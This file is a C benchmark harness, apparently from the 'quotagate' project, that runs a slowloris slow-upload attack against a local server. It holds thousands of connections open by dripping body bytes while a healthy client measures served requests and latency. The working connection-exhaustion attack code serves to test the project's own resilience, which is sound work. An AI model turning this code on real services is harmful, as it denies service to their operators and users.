/* attack_slowloris.c - the slow-upload attack of issue 8 against a running
 * `quotagate serve`, with a healthy client measuring what it still gets.
 *
 * Attack: N connections (default 9,000), each sending
 *     POST /v1/check HTTP/1.1 ... Content-Length: 100000
 * and then one byte of body every 4 seconds; a connection the server
 * closes is reopened (-r 0 turns that off), so N stay open as far as the
 * server lets them.  All of it runs on one epoll loop.
 *
 * Healthy client (its own thread): every 100 ms a new connection sends a
 * whole request, alternately GET /healthz and POST /v1/check (a new
 * subject each time, so each is admitted), and waits at most 5 s for the
 * response.  Served = a complete HTTP response came back; failed = the
 * connection was refused, closed or reset before one, or 5 s passed.
 *
 * At the end it prints the attack's counts (opened, closed by the server
 * with a 408, a 503, another response or none) and the healthy client's
 * (served by status, failed by why, latency median / p99 / max of the
 * served ones).  Both sides raise their soft `ulimit -n` to the hard one.
 *
 *   build/attack_slowloris -p PORT -k SERVICE_KEY [-n 9000] [-i 4000]
 *       [-l 100000] [-d 90] [-s 127.0.0.1] [-g 100] [-r 1]
 *
 * bench/attack_slowloris.sh starts the server and runs this (make attack). */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { MAX_LAT = 1 << 20 };

static struct {
    int port, nconn, drip_ms, length, dur_s, gap_ms, reopen;
    const char *src, *key;
} opt = { 0, 9000, 4000, 100000, 90, 100, 1, "127.0.0.1", "" };

static atomic_int stop;

static int64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int64_t now_us(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000000 + ts.tv_nsec / 1000;
}

/* A non-blocking (or blocking) socket connecting to the server from src. */
static int dial(const char *src, int nonblock)
{
    struct sockaddr_in a = { .sin_family = AF_INET }, b = { .sin_family = AF_INET };
    int fd = socket(AF_INET, SOCK_STREAM | (nonblock ? SOCK_NONBLOCK : 0), 0);
    if (fd < 0)
        return -1;
    a.sin_port = htons((uint16_t)opt.port);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    inet_pton(AF_INET, src, &b.sin_addr);
    if (bind(fd, (struct sockaddr *)&b, sizeof b) < 0 ||
        (connect(fd, (struct sockaddr *)&a, sizeof a) < 0 &&
         errno != EINPROGRESS)) {
        close(fd);
        return -1;
    }
    return fd;
}

/* ---- the attack --------------------------------------------------------- */

typedef struct att {
    int fd;                    /* -1: free */
    int sent_head;
    int64_t next_drip;
    char got[16];              /* the response's first bytes */
    int ngot;
} att;

static struct {
    uint64_t opened, open_fail, closed, st408, st503, st_other, no_resp,
             bytes_dripped;
    int open_now, open_max;
} A;

static char head[512];
static int head_len;

static void att_open(int ep, att *a)
{
    struct epoll_event ev = { .events = EPOLLIN | EPOLLOUT | EPOLLRDHUP };
    a->fd = dial(opt.src, 1);
    if (a->fd < 0) {
        A.open_fail++;
        return;
    }
    a->sent_head = 0;
    a->ngot = 0;
    a->next_drip = now_ms() + opt.drip_ms;
    ev.data.ptr = a;
    if (epoll_ctl(ep, EPOLL_CTL_ADD, a->fd, &ev) < 0) {
        close(a->fd);
        a->fd = -1;
        A.open_fail++;
        return;
    }
    A.opened++;
    if (++A.open_now > A.open_max)
        A.open_max = A.open_now;
}

/* The server closed it: count how, and free the slot. */
static void att_closed(att *a)
{
    close(a->fd);
    a->fd = -1;
    A.open_now--;
    A.closed++;
    if (a->ngot >= 12 && !memcmp(a->got, "HTTP/1.1 408", 12))
        A.st408++;
    else if (a->ngot >= 12 && !memcmp(a->got, "HTTP/1.1 503", 12))
        A.st503++;
    else if (a->ngot > 0)
        A.st_other++;
    else
        A.no_resp++;
}

static void att_event(int ep, att *a, uint32_t what)
{
    if (what & EPOLLOUT && !a->sent_head) {
        ssize_t n = send(a->fd, head, (size_t)head_len, MSG_NOSIGNAL);
        if (n == head_len) {
            struct epoll_event ev = { .events = EPOLLIN | EPOLLRDHUP,
                                      .data.ptr = a };
            a->sent_head = 1;
            epoll_ctl(ep, EPOLL_CTL_MOD, a->fd, &ev);
        } else if (n < 0 && errno != EAGAIN) {
            att_closed(a);
            return;
        }
    }
    if (what & (EPOLLIN | EPOLLRDHUP | EPOLLERR | EPOLLHUP)) {
        char b[512];
        for (;;) {
            ssize_t n = recv(a->fd, b, sizeof b, 0);
            if (n > 0) {
                int k = (int)sizeof a->got - a->ngot;
                if (k > n)
                    k = (int)n;
                memcpy(a->got + a->ngot, b, (size_t)k);
                a->ngot += k;
                continue;
            }
            if (n == 0 || (errno != EAGAIN && errno != EINTR)) {
                att_closed(a);
                return;
            }
            break;
        }
    }
}

static void attack(void)
{
    att *as = calloc((size_t)opt.nconn, sizeof *as);
    struct epoll_event evs[256];
    int ep = epoll_create1(0), opened_all = 0;
    int64_t end = now_ms() + (int64_t)opt.dur_s * 1000, last_open = 0;
    head_len = snprintf(head, sizeof head,
                        "POST /v1/check HTTP/1.1\r\nHost: x\r\n"
                        "Authorization: Bearer %s\r\n"
                        "Content-Type: application/json\r\n"
                        "Content-Length: %d\r\n\r\n{", opt.key, opt.length);
    for (int i = 0; i < opt.nconn; i++)
        as[i].fd = -1;
    while (now_ms() < end) {
        int64_t t = now_ms();
        int n;
        /* Open (or reopen) up to 500 every 50 ms: ~10k per second. */
        if (t - last_open >= 50) {
            int k = 0;
            last_open = t;
            for (int i = 0; i < opt.nconn && k < 500; i++)
                if (as[i].fd < 0 && (!opened_all || opt.reopen)) {
                    att_open(ep, &as[i]);
                    k++;
                }
            if (A.opened >= (uint64_t)opt.nconn)
                opened_all = 1;
        }
        n = epoll_wait(ep, evs, 256, 20);
        for (int i = 0; i < n; i++)
            att_event(ep, evs[i].data.ptr, evs[i].events);
        t = now_ms();
        for (int i = 0; i < opt.nconn; i++) {
            att *a = &as[i];
            if (a->fd < 0 || !a->sent_head || t < a->next_drip)
                continue;
            a->next_drip = t + opt.drip_ms;
            if (send(a->fd, " ", 1, MSG_NOSIGNAL) == 1)
                A.bytes_dripped++;
        }
    }
    for (int i = 0; i < opt.nconn; i++)
        if (as[i].fd >= 0)
            close(as[i].fd);
    close(ep);
    free(as);
}

/* ---- the healthy client ------------------------------------------------- */

static struct {
    uint64_t sent, served, st200, st429, st_other, f_connect, f_closed,
             f_timeout;
    int64_t *lat_us;
    size_t nlat;
} H;

/* One request on a new blocking connection: its status, or -1 (closed
 * or reset before a response), -2 (connect failed), -3 (timeout). */
static int healthy_once(int i)
{
    char req[512], buf[4096];
    size_t len = 0;
    int fd = dial("127.0.0.1", 0), n;
    struct pollfd p;
    int64_t deadline = now_ms() + 5000;
    if (fd < 0)
        return -2;
    if (i % 2)
        n = snprintf(req, sizeof req, "GET /healthz HTTP/1.1\r\nHost: x\r\n"
                     "Connection: close\r\n\r\n");
    else {
        char body[200];
        int bl = snprintf(body, sizeof body, "{\"subject\":\"healthy-%d-%d\","
                          "\"request_id\":\"h-%d-%d\",\"weight\":1}",
                          (int)getpid(), i, (int)getpid(), i);
        n = snprintf(req, sizeof req, "POST /v1/check HTTP/1.1\r\nHost: x\r\n"
                     "Authorization: Bearer %s\r\nContent-Type: "
                     "application/json\r\nContent-Length: %d\r\nConnection: "
                     "close\r\n\r\n%s", opt.key, bl, body);
    }
    if (send(fd, req, (size_t)n, MSG_NOSIGNAL) != n) {
        close(fd);
        return -1;
    }
    p.fd = fd;
    p.events = POLLIN;
    for (;;) {
        ssize_t k;
        int64_t left = deadline - now_ms();
        char *end;
        if (left <= 0 || poll(&p, 1, (int)left) != 1) {
            close(fd);
            return -3;
        }
        k = recv(fd, buf + len, sizeof buf - 1 - len, 0);
        if (k <= 0) {
            close(fd);
            return -1;
        }
        len += (size_t)k;
        buf[len] = '\0';
        /* The head and a Content-Length body (our responses are small). */
        if ((end = strstr(buf, "\r\n\r\n"))) {
            char *cl = strstr(buf, "Content-Length: ");
            size_t need = (size_t)(end + 4 - buf) +
                          (cl ? strtoul(cl + 16, NULL, 10) : 0);
            if (len >= need || len == sizeof buf - 1) {
                close(fd);
                return atoi(buf + 9);
            }
        }
    }
}

static void *healthy(void *arg)
{
    (void)arg;
    for (int i = 0; !atomic_load(&stop); i++) {
        int64_t t0 = now_us(), next = now_ms() + opt.gap_ms;
        int st = healthy_once(i);
        H.sent++;
        if (st > 0) {
            H.served++;
            if (st == 200)
                H.st200++;
            else if (st == 429)
                H.st429++;
            else
                H.st_other++;
            if (H.nlat < MAX_LAT)
                H.lat_us[H.nlat++] = now_us() - t0;
        } else if (st == -2) {
            H.f_connect++;
        } else if (st == -1) {
            H.f_closed++;
        } else {
            H.f_timeout++;
        }
        while (now_ms() < next && !atomic_load(&stop))
            usleep(1000);
    }
    return NULL;
}

static int cmp64(const void *a, const void *b)
{
    int64_t x = *(const int64_t *)a, y = *(const int64_t *)b;
    return x < y ? -1 : x > y;
}

static double pct(double p)
{
    size_t i;
    if (H.nlat == 0)
        return 0;
    i = (size_t)(p * (double)(H.nlat - 1) + 0.5);
    return (double)H.lat_us[i] / 1000.0;
}

int main(int argc, char **argv)
{
    struct rlimit rl;
    pthread_t th;
    int c;
    while ((c = getopt(argc, argv, "p:k:n:i:l:d:s:g:r:")) != -1) {
        switch (c) {
        case 'p': opt.port = atoi(optarg); break;
        case 'k': opt.key = optarg; break;
        case 'n': opt.nconn = atoi(optarg); break;
        case 'i': opt.drip_ms = atoi(optarg); break;
        case 'l': opt.length = atoi(optarg); break;
        case 'd': opt.dur_s = atoi(optarg); break;
        case 's': opt.src = optarg; break;
        case 'g': opt.gap_ms = atoi(optarg); break;
        case 'r': opt.reopen = atoi(optarg); break;
        default:
            fprintf(stderr, "usage: %s -p PORT -k SERVICE_KEY [-n conns] "
                    "[-i drip_ms] [-l content_length] [-d seconds] "
                    "[-s attacker_source_addr] [-g healthy_gap_ms] "
                    "[-r reopen 0|1]\n", argv[0]);
            return 2;
        }
    }
    if (opt.port <= 0 || opt.nconn <= 0 || opt.drip_ms <= 0) {
        fprintf(stderr, "attack_slowloris: -p PORT is required\n");
        return 2;
    }
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
        rl.rlim_cur = rl.rlim_max;
        setrlimit(RLIMIT_NOFILE, &rl);
    }
    H.lat_us = malloc(MAX_LAT * sizeof *H.lat_us);
    if (!H.lat_us)
        return 1;
    printf("attack: %d connections from %s, POST /v1/check Content-Length %d,"
           " one byte every %d ms, reopened when closed: %s; %d s; healthy "
           "client: a request every %d ms\n", opt.nconn, opt.src, opt.length,
           opt.drip_ms, opt.reopen ? "yes" : "no", opt.dur_s, opt.gap_ms);
    fflush(stdout);
    pthread_create(&th, NULL, healthy, NULL);
    attack();
    atomic_store(&stop, 1);
    pthread_join(th, NULL);
    qsort(H.lat_us, H.nlat, sizeof *H.lat_us, cmp64);
    printf("attack connections: opened %llu (failed to open %llu), open at "
           "most %d at once, %d open at the end\n",
           (unsigned long long)A.opened, (unsigned long long)A.open_fail,
           A.open_max, A.open_now);
    printf("attack connections closed by the server: %llu (408: %llu, 503: "
           "%llu, other response: %llu, no response: %llu); body bytes "
           "dripped: %llu\n",
           (unsigned long long)A.closed, (unsigned long long)A.st408,
           (unsigned long long)A.st503, (unsigned long long)A.st_other,
           (unsigned long long)A.no_resp,
           (unsigned long long)A.bytes_dripped);
    printf("healthy requests: %llu sent, %llu served (200: %llu, 429: %llu, "
           "other: %llu), %llu failed (connect: %llu, closed without a "
           "response: %llu, no response in 5 s: %llu)\n",
           (unsigned long long)H.sent, (unsigned long long)H.served,
           (unsigned long long)H.st200, (unsigned long long)H.st429,
           (unsigned long long)H.st_other,
           (unsigned long long)(H.f_connect + H.f_closed + H.f_timeout),
           (unsigned long long)H.f_connect, (unsigned long long)H.f_closed,
           (unsigned long long)H.f_timeout);
    printf("healthy latency (served): median %.1f ms, p99 %.1f ms, max %.1f "
           "ms\n", pct(0.5), pct(0.99), H.nlat ? (double)H.lat_us[H.nlat - 1] /
           1000.0 : 0.0);
    free(H.lat_us);
    return 0;
}
